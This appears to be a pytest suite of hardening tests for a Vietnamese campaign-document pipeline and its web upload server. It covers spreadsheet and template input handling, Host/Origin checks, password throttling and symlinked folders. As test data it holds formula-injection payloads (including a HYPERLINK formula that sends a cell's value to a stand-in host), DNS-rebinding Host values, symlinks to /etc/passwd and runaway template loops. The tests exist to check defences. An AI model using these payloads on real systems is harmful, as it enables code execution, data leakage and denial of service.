"""Issue 20: the hostile probe's second pass, one attack per test.

Every test here is one attack that must be held; `make hostile` (or
`.venv/bin/python -m pytest -m hostile`) runs them with the older attacks of
tests/test_hardening.py and tests/test_make_hardening.py, and pytest's
`N passed` is the count of attacks held. Test names start with the issue's item:

1. inject_*    formulas from data in any workbook the project writes
2. guard_*     formulas without cached values in rows without `r`, every printed number
3. host_*      DNS rebinding, Origin with scheme, forwarded headers
4. long_*      32,767 characters per cell while streaming
5. watch_*     the watcher stops on SIGTERM/SIGINT
6. zipname_*   Content-Disposition for campaign folders with diacritics
7. password_*  password guesses slowed per client
9. photos_*    a symlinked anh/ folder
10. dates_*    every date range-checked; `{_{` printed as written
"""

from __future__ import annotations

import re
import shutil
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from lxml import etree

from pipeline.errors import ValidationError
from pipeline.load import WORKBOOK, load_campaign
from pipeline.sanity import OWN_FORMULA, literal
from pipeline.validate import validate

from .conftest import ROOT, SAMPLE

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ATTACKS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://example.invalid/")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
]


def problems_of(folder: Path) -> list[str]:
    with pytest.raises(ValidationError) as caught:
        validate(load_campaign(folder))
    return [str(p) for p in caught.value.problems]


# =========================================================================== 1. inject


def _hostile_campaign(target: Path, attack: str) -> Path:
    """The sample with the cluster's and every unit's name replaced by `attack` (+ a code)."""
    shutil.copytree(SAMPLE, target)
    path = target / WORKBOOK
    book = openpyxl.load_workbook(path)
    literal(book["Chung"]["B2"], attack)
    units = book["Đơn vị"]
    for row in range(2, units.max_row + 1):
        literal(units.cell(row, 2), f'{attack}&"{row}"')
    book.save(path)
    return target


def live_formulas(path: Path) -> list[str]:
    """Every formula a workbook holds that is not one of the program's own sums."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not (name.startswith("xl/worksheets/") and name.endswith(".xml")):
                continue
            for formula in etree.fromstring(archive.read(name)).iter(f"{MAIN}f"):
                if not re.fullmatch(OWN_FORMULA, (formula.text or "").strip()):
                    found.append(f"{path.name} {name}: ={formula.text}")
    return found


def recalculates_on_open(path: Path) -> bool:
    with zipfile.ZipFile(path) as archive:
        calc = etree.fromstring(archive.read("xl/workbook.xml")).find(f"{MAIN}calcPr")
    return calc is not None and calc.get("fullCalcOnLoad") in ("1", "true")


@pytest.mark.parametrize("attack", ATTACKS[:3])
def test_inject_summary_workbook_holds_names_as_text_and_no_recalculation(tmp_path, attack):
    from pipeline.summary import WORKBOOK as SUMMARY, build_summary

    _hostile_campaign(tmp_path / "inputs" / SAMPLE.name, attack)
    outcome = build_summary(tmp_path / "inputs", tmp_path / "outputs", 2020, date(2020, 12, 21))
    assert outcome.included == [SAMPLE.name]
    path = outcome.folder / SUMMARY
    assert live_formulas(path) == []
    assert not recalculates_on_open(path)
    sheet = openpyxl.load_workbook(path)["Đơn vị"]
    assert sheet["A2"].value == attack and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["E2"].value.startswith(attack)


@pytest.mark.slow
def test_inject_every_workbook_the_project_writes_has_no_formula_from_data(tmp_path, monkeypatch):
    """Forms, the blank workbook, the summary and the units' links, written from hostile data,
    then scanned."""
    from pipeline import blank
    from pipeline.forms.writer import write_forms
    from pipeline.model import Grade
    from pipeline.summary import build_summary
    from pipeline.validate import validate_for_forms

    attack = ATTACKS[0]
    folder = _hostile_campaign(tmp_path / "inputs" / SAMPLE.name, attack)
    out = tmp_path / "outputs"
    write_forms(validate_for_forms(load_campaign(folder)), out / "forms")
    monkeypatch.setattr(blank, "DEFAULT_GRADES", (Grade("A", 85, attack), Grade("B", 70, "@x")))
    blank.write_blank_workbook(out / "du-lieu-trong.xlsx")
    build_summary(tmp_path / "inputs", out, 2020, date(2020, 12, 21))
    from pipeline.collect.linkbook import link_workbook  # the units' links (issue 22)

    (out / "duong-dan.xlsx").write_bytes(
        link_workbook(attack, [("PL", attack, f"https://example.invalid/nop/{attack}")], None)
    )
    written = sorted(out.rglob("*.xlsx"))
    assert len(written) >= 4 + 1  # a form, the blank workbook, the summary, the links
    assert [f for path in written for f in live_formulas(path)] == []
    for path in written:
        with zipfile.ZipFile(path) as archive:
            text = "".join(
                archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")
            )
        if "<f>" not in text:
            assert not recalculates_on_open(path), path.name


# =========================================================================== 2. guard

AWARDS_PART = "xl/worksheets/sheet9.xml"  # `Khen thưởng`; G is `Mức thưởng`


def rewrite_part(path: Path, part: str, change) -> None:
    with zipfile.ZipFile(path) as source:
        members = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in members:
            if info.filename == part:
                data = change(data.decode("utf-8")).encode("utf-8")
            out.writestr(info, data)


def _without_r(xml: str, row: int, cell: str, replacement: str) -> str:
    """Row `row` with its cells placed by order (no `r`), `cell` replaced."""

    def strip(match):
        text = match.group(0).replace(f'<c r="{cell}" s="2" t="n"><v>894000</v></c>', replacement)
        return re.sub(r'<c r="[A-Z]+\d+"', "<c", text)

    return re.sub(rf'<row r="{row}">.*?</row>', strip, xml, count=1)


@pytest.mark.parametrize("row_r", [True, False])
def test_guard_formula_without_value_in_a_row_without_r_is_an_error(campaign_dir, row_r):
    def change(xml):
        xml = _without_r(xml, 2, "G2", '<c s="2"><f>894000*1</f></c>')
        return xml if row_r else xml.replace('<row r="2">', "<row>", 1)

    rewrite_part(campaign_dir / WORKBOOK, AWARDS_PART, change)
    problems = problems_of(campaign_dir)
    assert any(
        p.startswith(
            'du-lieu.xlsx › Khen thưởng › dòng 2 › cột "Mức thưởng": ô G2 có '
            "công thức (=894000*1) nhưng chưa có giá trị tính sẵn"
        )
        for p in problems
    ), problems


def test_guard_cells_without_r_with_values_are_read_as_before(campaign_dir):
    rewrite_part(
        campaign_dir / WORKBOOK,
        AWARDS_PART,
        lambda x: _without_r(x, 2, "G2", '<c s="2" t="n"><f>894000*1</f><v>894000</v></c>'),
    )
    raw = load_campaign(campaign_dir)
    assert not raw.problems
    validate(raw)


@pytest.mark.parametrize(
    "sheet,part,cell",
    [
        ("Chấm điểm", "xl/worksheets/sheet4.xml", "D2"),  # a score
        ("Lịch kiểm tra", "xl/worksheets/sheet7.xml", "C2"),  # a date
    ],
)
def test_guard_formula_without_value_in_any_printed_number_is_an_error(campaign_dir, sheet, part, cell):
    def change(xml):
        return re.sub(
            rf'<c r="{cell}"([^>]*?)(?: t="\w+")?>(?:<v>[^<]*</v>|<is>.*?</is>)</c>',
            rf'<c r="{cell}"\1><f>1+1</f></c>',
            xml,
            count=1,
        )

    rewrite_part(campaign_dir / WORKBOOK, part, change)
    problems = problems_of(campaign_dir)
    assert any(f"› {sheet} › dòng 2" in p and f"ô {cell} có công thức (=1+1)" in p for p in problems), problems


# =========================================================================== 4. long


def _inline(path: Path, part: str, cell: str, size: int) -> None:
    rewrite_part(
        path,
        part,
        lambda x: re.sub(rf'(<c r="{cell}"[^>]*><is><t>)[^<]*', lambda m: m.group(1) + "Đ" + "x" * (size - 1), x),
    )


def _huge_inline(path: Path, part: str, cell: str, chars: int) -> None:
    """`cell` of `part` holding `chars` characters, written in chunks (never one string)."""
    with zipfile.ZipFile(path) as source:
        members = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in members:
            if info.filename != part:
                out.writestr(info, data)
                continue
            head, rest = data.split(f'<c r="{cell}"'.encode(), 1)
            tail = rest.split(b"</c>", 1)[1]
            with out.open(part, "w", force_zip64=True) as member:
                member.write(head + f'<c r="{cell}" t="inlineStr"><is><t>Đ'.encode())
                block = b"x" * (1 << 20)
                for _ in range(chars // len(block)):
                    member.write(block)
                member.write(b"</t></is></c>" + tail)


@pytest.mark.slow
def test_long_190_mb_inline_cell_is_refused_fast_small_and_quoted_short(campaign_dir, tmp_path):
    import resource
    import subprocess
    import sys
    import time

    _huge_inline(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml", "B2", 190 * 2**20)
    assert (campaign_dir / WORKBOOK).stat().st_size < 1024 * 1024

    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (1024**3, 1024**3))

    outputs = tmp_path / "outputs"
    started = time.monotonic()
    run = subprocess.run(
        [sys.executable, "-m", "pipeline", "build", "--inputs", str(campaign_dir.parent), "--outputs", str(outputs)],
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=cap,
        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)},
    )
    took = time.monotonic() - started
    assert run.returncode != 0 and took < 20, (took, run.stderr[-500:])
    said = run.stdout + run.stderr
    assert "ô B2 có hơn" in said and "quá giới hạn 32767 ký tự" in said, said[-2000:]
    assert len(said) < 10_000
    for path in outputs.rglob("*"):
        if path.is_file():
            assert path.stat().st_size < 100_000, path


def test_long_shared_string_over_the_limit_names_its_cell_and_quotes_an_excerpt(tmp_path):
    from pipeline.inputguard import inspect_workbook

    path = tmp_path / "shared.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "Đơn vị"
    book.active["A1"], book.active["B2"] = "Mã", "x"
    book.save(path)
    rewrite_part(
        path, "xl/worksheets/sheet1.xml", lambda x: re.sub(r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="s"><v>1</v></c>', x)
    )
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(
            "xl/sharedStrings.xml",
            (
                f'<sst xmlns="{MAIN[1:-1]}"><si><t>Mã</t></si><si><r><t>Phúc Đồng </t></r>'
                f"<r><t>{'y' * 40_000}</t></r></si></sst>"
            ),
        )
    report = inspect_workbook(path, path.name, lambda n: True)["Đơn vị"]
    [issue] = report.issues
    assert (issue.row, issue.column) == (2, 2)
    assert issue.message.startswith(
        'ô B2 có 40010 ký tự, quá giới hạn 32767 ký tự của một ô Excel (bắt đầu bằng "Phúc Đồng yyyyyyyyyy'
    )
    assert len(issue.message) < 300


def test_long_header_cell_is_quoted_as_an_excerpt(campaign_dir):
    _inline(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml", "B1", 40_000)
    _inline(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml", "B2", 40_000)
    problems = problems_of(campaign_dir)
    assert problems and max(map(len, problems)) < 2_100, [p[:200] for p in problems]


# =========================================================================== 3, 6, 7, 8: web


def _web(tmp_path, **kw):
    from starlette.testclient import TestClient

    from pipeline.web import create_app

    def build(folder, outputs, **_):  # the upload's build, without rendering anything
        (outputs / folder.name).mkdir(parents=True, exist_ok=True)

    app = create_app(tmp_path / "inputs", tmp_path / "outputs", build=build, **kw)
    return app, lambda **c: TestClient(app, follow_redirects=False, **c)


def _policy(host="127.0.0.1", port=8000, **environ):
    from pipeline.web.requestguard import Policy

    return Policy.for_server(host, port, environ)


def _post(client, **headers):
    return client.post(
        "/tai-len",
        data={"dot": "cum-1-2020"},
        headers=headers,
        files=[("du_lieu", ("du-lieu.xlsx", (SAMPLE / WORKBOOK).read_bytes(), "application/x"))],
    )


@pytest.mark.parametrize(
    "host",
    [
        "attacker.example",
        "attacker.example:8000",
        "127.0.0.1.attacker.example",
        "localhost.:8000@evil",
        "",
        "[::1",
        "127.0.0.1:80:80",
    ],
)
def test_host_rebinding_names_are_answered_400(tmp_path, host):
    _, client = _web(tmp_path, policy=_policy())
    answer = client(base_url="http://127.0.0.1:8000").get("/", headers={"Host": host})
    assert answer.status_code == 400 and "VANBAN_HOSTS" in answer.text
    assert _post(client(base_url="http://127.0.0.1:8000"), Host=host).status_code == 400
    assert not (tmp_path / "inputs" / "cum-1-2020").exists()


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST.:8000"])
def test_host_loopback_names_are_answered(tmp_path, host):
    _, client = _web(tmp_path, policy=_policy())
    assert client().get("/", headers={"Host": host}).status_code == 200


def test_host_lan_names_public_url_and_configured_host_are_answered(tmp_path):
    policy = _policy(
        "192.168.1.5",
        8000,
        VANBAN_HOSTS="vanban.ubnd.local, may-chu",
        VANBAN_PUBLIC_URL="https://vanban.example.gov.vn/",
    )
    _, client = _web(tmp_path, policy=policy)
    for host in ("192.168.1.5:8000", "vanban.ubnd.local:8000", "may-chu", "vanban.example.gov.vn"):
        assert client().get("/", headers={"Host": host}).status_code == 200, host
    assert client().get("/", headers={"Host": "192.168.1.6:8000"}).status_code == 400


def test_host_listening_everywhere_answers_the_machines_own_addresses(tmp_path):
    from pipeline.web.requestguard import own_addresses

    policy = _policy("0.0.0.0", 8000)
    mine = own_addresses()
    assert mine <= policy.hosts and "127.0.0.1" in policy.hosts
    assert "attacker.example" not in policy.hosts


def test_host_origin_from_a_rebinding_domain_is_refused(tmp_path):
    _, client = _web(tmp_path, policy=_policy())
    # The attacker chooses both Host and Origin: matching them proves nothing.
    answer = _post(client(), Host="attacker.example:8000", Origin="http://attacker.example:8000")
    assert answer.status_code == 400
    answer = _post(client(), Host="127.0.0.1:8000", Origin="http://attacker.example:8000")
    assert answer.status_code == 403
    answer = _post(client(), Host="127.0.0.1:8000", Origin="http://127.0.0.1:8000")
    assert answer.status_code == 303


@pytest.mark.parametrize(
    "origin",
    ["https://127.0.0.1:8000", "http://127.0.0.1:8001", "http://127.0.0.1", "null", "file://", "ftp://127.0.0.1:8000"],
)
def test_host_origin_with_another_scheme_or_port_is_refused(tmp_path, origin):
    _, client = _web(tmp_path, policy=_policy())
    assert _post(client(), Host="127.0.0.1:8000", Origin=origin).status_code == 403


def test_host_origin_scheme_is_checked_without_a_policy_too(tmp_path):
    _, client = _web(tmp_path)
    assert _post(client(), Origin="https://testserver").status_code == 403
    assert _post(client(), Origin="http://testserver").status_code == 303


def test_host_public_url_origin_behind_the_proxy_is_accepted(tmp_path):
    policy = _policy(VANBAN_PUBLIC_URL="https://vanban.example.gov.vn", VANBAN_TRUSTED_PROXY="10.0.0.1")
    _, client = _web(tmp_path, policy=policy)
    through = client(client=("10.0.0.1", 4000))
    answer = _post(
        through,
        Host="127.0.0.1:8000",
        **{
            "X-Forwarded-Host": "vanban.example.gov.vn",
            "X-Forwarded-Proto": "https",
            "Origin": "https://vanban.example.gov.vn",
        },
    )
    assert answer.status_code == 303
    assert _post(through, Host="127.0.0.1:8000", **{"X-Forwarded-Host": "attacker.example"}).status_code == 400


@pytest.mark.slow
def test_host_forwarded_headers_from_anyone_but_the_proxy_are_ignored(tmp_path):
    from pipeline.web.throttle import Throttle

    policy = _policy(VANBAN_TRUSTED_PROXY="10.0.0.1")
    throttle = Throttle(free=0, limit=2, window=60)
    _, client = _web(tmp_path, policy=policy, password="đúng", throttle=throttle)
    direct = client(client=("192.168.1.20", 5000))
    # A client cannot spread its guesses over made-up addresses...
    for i in range(3):
        direct.get("/", auth=("a", "sai"), headers={"Host": "127.0.0.1:8000", "X-Forwarded-For": f"10.9.9.{i}"})
    assert throttle.failures("192.168.1.20") == 2 and throttle.failures("10.9.9.0") == 0
    # ...nor choose the Host the allowlist sees.
    assert (
        direct.get("/", headers={"Host": "127.0.0.1:8000", "X-Forwarded-Host": "attacker.example"}).status_code == 429
    )
    # Through the proxy, each user is counted on their own address.
    proxy = client(client=("10.0.0.1", 4000))
    proxy.get("/", auth=("a", "sai"), headers={"Host": "127.0.0.1:8000", "X-Forwarded-For": "203.0.113.9"})
    assert throttle.failures("203.0.113.9") == 1 and throttle.failures("10.0.0.1") == 0


def test_host_serve_builds_the_app_with_the_allowlist(tmp_path, monkeypatch):
    import uvicorn
    from starlette.testclient import TestClient

    from pipeline import runner, web

    served = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: served.update(app=app, **kw))
    monkeypatch.setattr(runner, "warm_up", lambda templates: None)
    monkeypatch.delenv("VANBAN_HOSTS", raising=False)
    monkeypatch.delenv("VANBAN_PUBLIC_URL", raising=False)
    web.serve(tmp_path / "inputs", tmp_path / "outputs", port=8765)
    client = TestClient(served["app"])
    assert served["proxy_headers"] is False  # uvicorn would believe any local X-Forwarded-For
    assert client.get("/", headers={"Host": "attacker.example:8765"}).status_code == 400
    assert client.get("/", headers={"Host": "127.0.0.1:8765"}).status_code == 200


def test_zipname_campaign_folder_with_diacritics_downloads(tmp_path):
    from urllib.parse import unquote

    _, client = _web(tmp_path)
    folder = tmp_path / "outputs" / "Cụm_1"
    folder.mkdir(parents=True)
    (folder / "ke-hoach.docx").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    answer = client().get("/dot/Cụm_1/tai-ve.zip")
    assert answer.status_code == 200
    header = answer.headers["content-disposition"]
    header.encode("ascii")
    assert header.startswith('attachment; filename="Cum_1.zip"')
    assert header == "attachment; filename=\"Cum_1.zip\"; filename*=UTF-8''C%E1%BB%A5m_1.zip"
    assert unquote(header.split("filename*=UTF-8''")[1]) == "Cụm_1.zip"
    assert zipfile.ZipFile(__import__("io").BytesIO(answer.content)).namelist() == ["ke-hoach.docx"]


@pytest.mark.slow
def test_password_guesses_are_slowed_per_client_then_refused(tmp_path):
    import time

    from pipeline.web.throttle import Throttle

    throttle = Throttle(free=2, limit=5, window=60, base=0.4, max_delay=0.8)
    _, client = _web(tmp_path, password="đúng", throttle=throttle)
    guesser, other = client(client=("192.168.1.66", 1)), client(client=("192.168.1.7", 1))
    took = []
    for _ in range(5):
        started = time.monotonic()
        assert guesser.get("/", auth=("a", "sai")).status_code == 401
        took.append(time.monotonic() - started)
    assert max(took[:2]) < 0.3 and took[2] >= 0.4 and took[3] >= 0.8 and took[4] >= 0.8, took
    refused = guesser.get("/", auth=("a", "đúng"))
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    # The other office is neither slowed nor locked out.
    started = time.monotonic()
    assert other.get("/", auth=("a", "đúng")).status_code == 200
    assert time.monotonic() - started < 0.3
    # Before this change, one connection made about 2,700 guesses a second.
    assert sum(took) >= 2.0


# =========================================================================== 9. photos


def test_photos_symlinked_anh_folder_leading_out_is_refused(campaign_dir, tmp_path):
    outside = tmp_path / "elsewhere"
    shutil.move(str(campaign_dir / "anh"), outside)
    (campaign_dir / "anh").symlink_to(outside, target_is_directory=True)
    problems = problems_of(campaign_dir)
    assert any('› Ảnh › dòng 2 › cột "Tệp": thư mục anh/ của đợt thi đua là lối tắt ra ngoài' in p for p in problems), (
        problems
    )


def test_photos_anh_linked_to_a_folder_inside_the_campaign_still_works(campaign_dir):
    shutil.move(str(campaign_dir / "anh"), campaign_dir / "anh-that")
    (campaign_dir / "anh").symlink_to("anh-that", target_is_directory=True)
    assert validate(load_campaign(campaign_dir)).photos


# =========================================================================== 10. dates


@pytest.mark.parametrize(
    "sheet,cell,value,row",
    [
        ("Chung", "B10", "17/8/0020 14:00", 10),  # Bắt đầu họp
        ("Chung", "B8", "14/8/2200", 8),  # Ngày kiểm tra
        ("Lịch kiểm tra", "C2", "14/8/1999 14:00", 2),
    ],
)
def test_dates_year_outside_2000_2100_is_an_error_naming_the_cell(campaign_dir, sheet, cell, value, row):
    from .conftest import edit_workbook

    edit_workbook(campaign_dir / WORKBOOK, {(sheet, cell): value})
    problems = problems_of(campaign_dir)
    year = value.split("/")[2].split()[0]
    assert any(
        f"› {sheet} › dòng {row}" in p and f'ngày "{value}" có năm {int(year)} nằm ngoài khoảng 2000–2100' in p
        for p in problems
    ), problems


def test_dates_a_date_typed_as_a_date_cell_is_range_checked_too(campaign_dir):
    from datetime import datetime

    from .conftest import edit_workbook

    edit_workbook(campaign_dir / WORKBOOK, {("Chung", "B11"): datetime(1920, 8, 17, 16, 30)})
    problems = problems_of(campaign_dir)
    assert any("› Chung › dòng 11" in p and "có năm 1920 nằm ngoài khoảng 2000–2100" in p for p in problems), problems


def _document_text(path: Path) -> str:
    import docx

    document = docx.Document(str(path))
    return "\n".join(p.text for p in document.paragraphs) + "\n".join(
        c.text for t in document.tables for r in t.rows for c in r.cells
    )


@pytest.mark.slow
def test_dates_template_escapes_in_data_are_printed_as_written(campaign_dir, tmp_path):
    from pipeline.build import build_campaign

    from .conftest import edit_workbook

    name = "Cụm {_{ số 1 }_} và {_% x %_}"
    caption = "Ảnh {_{ kiểm tra }_}"
    edit_workbook(campaign_dir / WORKBOOK, {("Chung", "B2"): name, ("Ảnh", "B2"): caption})
    build_campaign(campaign_dir, tmp_path, ["ke-hoach", "tin-bai"])
    plan = _document_text(tmp_path / campaign_dir.name / "ke-hoach.docx")
    assert name in plan and "{{" not in plan
    news = _document_text(tmp_path / campaign_dir.name / "tin-bai.docx")  # docxtpl's own path
    assert caption in news and "{{" not in news
    assert "\U000ffffd" not in plan + news


# =========================================================================== 5. watch


def _hostile_inputs(tmp_path: Path) -> tuple[Path, Path]:
    import os

    inputs, outputs = tmp_path / "inputs", tmp_path / "outputs"
    inputs.mkdir()
    fifo = inputs / "fifo"
    fifo.mkdir()
    os.mkfifo(fifo / WORKBOOK)
    (fifo / "chung.csv").symlink_to("/etc/passwd")
    folder = inputs / "thu-muc"
    (folder / WORKBOOK).mkdir(parents=True)
    outside = tmp_path / "ngoai"
    shutil.copytree(SAMPLE, outside)
    (inputs / "lien-ket").symlink_to(outside, target_is_directory=True)
    (inputs / "passwd").mkdir()
    (inputs / "passwd" / WORKBOOK).symlink_to("/etc/passwd")
    half = inputs / "nua-chung"
    half.mkdir()
    data = (SAMPLE / WORKBOOK).read_bytes()
    (half / WORKBOOK).write_bytes(data[: len(data) // 2])
    many = inputs / "nhieu-anh"
    shutil.copytree(SAMPLE, many)
    photo = (SAMPLE / "anh" / "kiem-tra-phuc-loi.jpg").read_bytes()
    for i in range(500):
        (many / "anh" / f"anh-{i:03}.jpg").write_bytes(photo)
    return inputs, outputs


@pytest.mark.slow
@pytest.mark.parametrize("sig", ["SIGTERM", "SIGINT"])
def test_watch_stops_within_5_s_whatever_it_waits_on(tmp_path, sig):
    import fcntl
    import os
    import signal
    import subprocess
    import sys
    import time

    from pipeline.status import LOCK

    inputs, outputs = _hostile_inputs(tmp_path)
    # Another program (the web page, make) holds every campaign's lock meanwhile.
    held = []
    for name in ("nhieu-anh", "lien-ket", "passwd", "nua-chung", "fifo", "doi-ten"):
        (outputs / name).mkdir(parents=True)
        handle = open(outputs / name / LOCK, "a")
        fcntl.flock(handle, fcntl.LOCK_EX)
        held.append(handle)
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "pipeline",
            "watch",
            "--inputs",
            str(inputs),
            "--outputs",
            str(outputs),
            "--quiet",
            "0.2",
        ],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )
    try:
        first = [process.stdout.readline() for _ in range(2)]
        assert "Đang theo dõi" in "".join(first) and "lien-ket: thư mục là lối tắt" in first[0]
        renamed = inputs / "doi-ten"
        shutil.copytree(SAMPLE, renamed)
        for i in range(200):  # 200 renames while it watches
            target = inputs / f"doi-ten-{i}"
            renamed.rename(target)
            renamed = target
        renamed.rename(inputs / "doi-ten")
        time.sleep(1.5)  # builds are due now: waiting on the locks, or on the FIFO
        started = time.monotonic()
        process.send_signal(getattr(signal, sig))
        out, err = process.communicate(timeout=30)
        took = time.monotonic() - started
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        for handle in held:
            handle.close()
    assert took < 5, (took, out[-500:], err[-500:])
    assert "Traceback" not in err
    assert "Dừng khi một lần tạo văn bản chưa xong" in out  # it was stuck on a lock
    assert out.strip().endswith("Đã dừng theo dõi.")


# =========================================================================== LibreOffice


def _counting_soffice(tmp_path: Path, pdf: Path) -> str:
    """A stand-in for soffice that records how many copies of it run at once."""
    script = tmp_path / "soffice"
    running, log = tmp_path / "running", tmp_path / "concurrent.log"
    running.mkdir()
    script.write_text(f"""#!/bin/sh
touch {running}/$$
ls {running} | wc -l >> {log}
sleep 0.2
while [ "$#" -gt 0 ]; do
  case "$1" in --outdir) shift; out="$1";; *.docx) doc="$1";; esac; shift
done
mkdir -p "$out"; cp {pdf} "$out/$(basename "$doc" .docx).pdf"
rm {running}/$$
""")
    script.chmod(0o755)
    return str(script)


@pytest.mark.slow
def test_previews_of_40_campaigns_at_once_run_at_most_one_libreoffice_per_core(tmp_path, monkeypatch):
    import os
    import threading

    import matplotlib

    matplotlib.use("Agg")
    from matplotlib import pyplot

    from pipeline import export

    if not shutil.which("pdftoppm"):
        pytest.skip("poppler-utils (pdftoppm) is not installed")
    pdf = tmp_path / "trang.pdf"
    figure = pyplot.figure(figsize=(8.27, 11.69))
    figure.text(0.1, 0.9, "Trang 1")
    figure.savefig(pdf)
    pyplot.close(figure)
    binary = _counting_soffice(tmp_path, pdf)
    monkeypatch.setattr(export, "soffice", lambda: binary)
    monkeypatch.setattr(export, "check_fonts", lambda: None)
    _, client = _web(tmp_path)
    for i in range(40):
        folder = tmp_path / "outputs" / f"cum-{i}"
        folder.mkdir(parents=True)
        (folder / "ke-hoach.docx").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    answers = {}

    def ask(i):
        answers[i] = client().get(f"/dot/cum-{i}/xem/ke-hoach.docx")

    threads = [threading.Thread(target=ask, args=(i,)) for i in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert sorted(a.status_code for a in answers.values()) == [200] * 40
    assert all("trang-1.png" in a.text for a in answers.values())
    seen = [int(line) for line in (tmp_path / "concurrent.log").read_text().split()]
    assert len(seen) == 40 and max(seen) <= export.MAX_PROCESSES == (os.cpu_count() or 1)
    assert export.running() == 0


@pytest.mark.slow
def test_watch_and_serve_on_the_same_inputs_build_an_upload_once(tmp_path, monkeypatch):
    import time

    from starlette.testclient import TestClient

    from pipeline import build as builder
    from pipeline.watch import Watcher
    from pipeline.web import create_app

    inputs, outputs = tmp_path / "inputs", tmp_path / "outputs"
    inputs.mkdir()
    real, builds = builder.build_campaign, []

    def counted(folder, *args, **kwargs):
        builds.append(Path(folder).name)
        return real(folder, *args, **kwargs)

    monkeypatch.setattr(builder, "build_campaign", counted)
    lines = []
    watcher = Watcher(inputs, outputs, quiet=0.3, settle=0.2, log=lines.append)
    watcher.start()
    try:
        client = TestClient(create_app(inputs, outputs), follow_redirects=False)
        answer = _post(client)
        assert answer.status_code == 303
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and not any("không tạo lại" in x for x in lines):
            time.sleep(0.2)
        time.sleep(1.0)  # anything still due would have started by now
        assert builds == ["cum-1-2020"], (builds, lines)
        assert lines == ["cum-1-2020: văn bản đã được tạo từ đúng các tệp này (trang web hoặc make), không tạo lại."]
        # A change made afterwards is built by the watcher, once.
        workbook = inputs / "cum-1-2020" / WORKBOOK
        workbook.write_bytes(workbook.read_bytes())
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and len(lines) < 2:
            time.sleep(0.2)
    finally:
        watcher.stop()
    assert builds == ["cum-1-2020"] * 2 and "không tạo lại" not in lines[1], (builds, lines)


# =========================================================================== not re-run before


@pytest.mark.parametrize(
    "tag",
    [
        "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
        "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
        "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
    ],
)
@pytest.mark.slow
def test_loops_that_never_end_in_a_template_are_stopped(tmp_path, tag):
    import os
    import subprocess
    import sys
    import time

    from .test_hardening import SANDBOX_PROBE

    env = dict(os.environ, OPENBLAS_NUM_THREADS="1", PYTHONPATH=str(ROOT))
    start = time.monotonic()
    run = subprocess.run(
        [sys.executable, "-c", SANDBOX_PROBE, str(tmp_path), tag], env=env, capture_output=True, text=True, timeout=60
    )
    assert time.monotonic() - start < 20
    assert run.returncode == 3, run.stderr[-2000:]
    assert run.stdout.startswith("Mẫu t.docx: phép tính quá lớn (")


def test_loops_ordinary_loops_still_render(tmp_path):
    from docx import Document

    from pipeline.render import render_bytes

    from .docx_tools import paragraphs

    doc = Document()
    doc.add_paragraph(
        "{% for x in items %}{{ loop.index }}{{ x }}{% if loop.last %}/{{ loop.length }}{% endif %}{% endfor %}"
    )
    doc.save(tmp_path / "t.docx")
    (tmp_path / "out.docx").write_bytes(render_bytes("t", {"items": ["a", "b"]}, tmp_path))
    assert paragraphs(tmp_path / "out.docx") == ["1a2b/2"]


def _make(tree: Path, *goals: str, background: bool = False):
    import subprocess

    from .test_make_hardening import VENV

    command = [
        "make",
        "--no-print-directory",
        "-C",
        str(ROOT),
        *goals,
        f"VENV={VENV}",
        f"INPUTS={tree / 'inputs'}",
        f"OUTPUTS={tree / 'outputs'}",
        f"TEMPLATES={ROOT / 'templates_docx'}",
    ]
    if background:
        # Output to files, not pipes: one goal waiting on the other's lock must never be
        # stuck behind a pipe that nobody is reading.
        import tempfile

        out, err = tempfile.TemporaryFile(mode="w+"), tempfile.TemporaryFile(mode="w+")
        run = subprocess.Popen(command, stdout=out, stderr=err, text=True, start_new_session=True)
        run.outputs = (out, err)
        return run
    return subprocess.run(command, capture_output=True, text=True, timeout=600)


def _consistent(outputs: Path) -> None:
    """No temporary file, no queue, a manifest naming exactly the bytes on disk."""
    import hashlib
    import json

    from pipeline.files import TEMP_PREFIX, TEMP_SUFFIX

    leftovers = [
        p
        for p in outputs.rglob("*")
        if p.name.startswith(TEMP_PREFIX) and p.name.endswith(TEMP_SUFFIX) or p.name.startswith(".hang-doi")
    ]
    assert leftovers == []
